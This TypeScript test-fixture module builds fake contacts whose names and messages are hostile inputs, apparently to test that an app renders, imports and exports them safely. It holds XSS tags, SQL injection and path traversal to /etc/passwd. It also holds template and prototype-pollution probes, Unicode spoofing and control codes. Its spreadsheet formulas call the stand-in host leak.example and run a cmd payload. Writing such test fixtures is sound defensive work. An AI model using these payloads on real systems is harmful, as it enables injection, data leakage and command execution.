import type { Cast } from './cast.ts'
import { day, hour } from './dates.ts'
import type { Line, Person } from './person.ts'

/** Somebody whose name or words are an attack, or a text no layout expects. */
type Attack = { readonly slug: string; readonly first: string; readonly last: string; readonly says?: string }

const megabyte = 1 << 20

const attacks: readonly Attack[] = [
  {
    slug: 'image-tag',
    first: '<img src=x onerror=alert(1)>',
    last: 'Tagsby',
    says: '<script>alert(document.domain)</script><a href="javascript:alert(1)">open</a>',
  },
  {
    slug: 'right-to-left',
    first: 'Rex \u202egpj.eltit\u202c',
    last: 'Overridden',
    says: '\u202eyenom ym dnes\u202c \u2066\u2067isolated',
  },
  {
    slug: 'one-megabyte',
    first: 'Meg',
    last: 'Abyte',
    says: 'All work and no end. '.repeat(Math.ceil(megabyte / 21)).slice(0, megabyte),
  },
  { slug: 'one-word', first: 'Ned', last: 'Nobreak', says: 'a'.repeat(100_000) },
  {
    slug: 'formula',
    first: '=HYPERLINK("http://leak.example","Click")',
    last: '+1+1',
    says: "@SUM(1+1)*cmd|' /C calc'!A0",
  },
  { slug: 'minus-formula', first: '-2+3', last: '@IMPORTDATA("http://leak.example")', says: '\t=1+1' },
  {
    slug: 'control-letters',
    first: 'Nul\u0000 Bell\u0007',
    last: 'Esc\u001b[31m',
    says: 'before\u0000after \u0008\u001b[2J\u009b end',
  },
  { slug: 'long-name', first: 'Longest '.repeat(40).trim(), last: 'Name'.repeat(200), says: 'short' },
  { slug: 'quotes', first: 'Qui"n""', last: '"Quote", \'Smart\' ,;\t|', says: '"\n""\n\r\n"", , ;"' },
  { slug: 'line-breaks', first: 'Two\nLines', last: 'Carriage\r\nReturn', says: 'one\ntwo\r\nthree\rfour' },
  { slug: 'sql', first: "Robert'); DROP TABLE person;--", last: 'Tables', says: "' OR 1=1; --" },
  {
    slug: 'stacked-marks',
    first: `Z${'\u0351\u0322\u0334'.repeat(60)}algo`,
    last: 'Marks',
    says: '\ud83d\udc69\u200d\ud83d\ude80'.repeat(500),
  },
  {
    slug: 'path',
    first: '../../../../etc/passwd',
    last: '%2e%2e%2f',
    says: 'file:///etc/passwd doorman://accept?all \\\\leak.example\\share',
  },
  {
    slug: 'template',
    first: '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would send
    last: '${7*7}%s%n',
    says: '%FIRSTNAME% __proto__ constructor',
  },
  { slug: '__proto__', first: '__proto__', last: 'constructor', says: 'toString' },
  { slug: 'постоянный-гость', first: 'Постоянный', last: 'Гость', says: 'Здравствуйте' },
]

const longestNote = 300

/** Everybody comes twice: once with an open invitation, once as a connection who wrote. All rows can be imported. */
export function hostileCast(asOf: number): Cast {
  const people = attacks.flatMap((attack, index): readonly Person[] => {
    const both = {
      first: attack.first,
      last: attack.last,
      language: 'en',
      employer: attack.first.slice(0, 100),
      company: attack.first.slice(0, 100),
      position: attack.last.slice(0, 100),
      place: null,
      headline: null,
      sent: [],
      known: {},
      showsEmail: true,
      talk: { from: asOf - 20 * day, to: asOf - hour },
    } as const
    const note = (attack.says ?? '').slice(0, longestNote).replace(/[\r\n]/g, ' ')
    const knocks = {
      ...both,
      // Not even the names are the same, for files that have nothing else to tell people apart by.
      last: `${attack.last} outside`,
      index: index * 2,
      kind: 'bare-stranger',
      slug: `${attack.slug}-outside`,
      urn: 1000 + index,
      email: `${index}@outside.example`,
      connectedAt: null,
      received: [{ sentAt: asOf - (index + 1) * hour, note }],
      messages: 0,
    } as const
    const writes = {
      ...both,
      index: index * 2 + 1,
      kind: 'silent',
      slug: attack.slug,
      urn: 2000 + index,
      email: `${index}@inside.example`,
      connectedAt: asOf - (30 + index) * day,
      received: [],
      messages: 1,
    } as const
    return [knocks, writes]
  })
  return { people, hidden: [], mutuals: [] }
}

/** What a hostile person writes. */
export function hostileLines(person: Person): readonly Line[] {
  const attack = attacks.find(({ slug }) => slug === person.slug)
  return [{ from: 'them', at: person.talk.from, text: attack?.says ?? '' }]
}
